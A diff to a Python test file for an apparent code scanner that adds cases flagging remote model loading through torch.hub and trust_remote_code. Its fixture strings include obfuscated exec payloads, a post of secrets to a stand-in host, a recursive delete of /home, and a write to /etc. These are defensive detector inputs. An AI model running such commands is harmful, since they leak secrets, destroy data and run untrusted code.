@@ -106,6 +106,9 @@ CASES = [
     ("code = 'print(1)'\nexec(code)\n", "MG-S303", "line 2"),
     ("eval('1+1')\n", "MG-S303", "line 1"),
     ("import importlib\nm = importlib.import_module(name)\n", "MG-S303", "line 2"),
+    ("import torch\nm = torch.hub.load('someone/repo', 'model')\n", "MG-S303", "line 2"),
+    ("from transformers import AutoModel\nm = AutoModel.from_pretrained('o/r', trust_remote_code=True)\n",
+     "MG-S303", "line 2"),
     # obfuscated payloads
     ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "MG-S304", "line 2"),
     ("import zlib, base64\np = zlib.decompress(base64.b64decode(s))\nq = p\n\n\nexec(q)\n", "MG-S304", "line 6"),
@@ -123,6 +126,7 @@ CASES = [
     ("import urllib.request\nurllib.request.urlopen('http://example.invalid')\n", "MG-S306", "line 2"),
     ("import requests\n\nrequests.post('http://example.invalid', data=secrets)\n", "MG-S306", "line 3"),
     ("from http.client import HTTPSConnection\n", "MG-S306", "line 1"),
+    ("import torch\nsd = torch.hub.load_state_dict_from_url(u)\n", "MG-S306", "line 2"),
     # file writes and deletes
     ("with open('/etc/x', 'w') as f:\n    f.write('x')\n", "MG-S307", "line 1"),
     ("import shutil\nshutil.rmtree('/home')\n", "MG-S307", "line 2"),
